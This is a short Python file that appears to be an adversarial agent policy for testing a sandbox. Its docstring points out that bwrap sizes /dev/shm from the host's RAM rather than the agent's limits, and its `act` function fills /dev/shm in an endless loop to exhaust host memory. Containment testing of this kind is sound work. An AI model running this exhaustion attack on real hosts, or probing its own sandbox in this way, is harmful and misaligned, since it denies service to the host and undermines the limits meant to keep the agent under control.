"""Fills /dev/shm, a tmpfs bwrap sizes to half the host's RAM, not to the agent's limits.

Only the memory cgroup (tmpfs pages are charged to the writer) stands between this agent
and the host's memory.
"""


def act(observation, context):
    block = b"\x3c" * (1 << 20)
    index = 0
    while True:
        with open(f"/dev/shm/fill-{index}", "wb") as handle:
            for _ in range(16):
                handle.write(block)
        index += 1
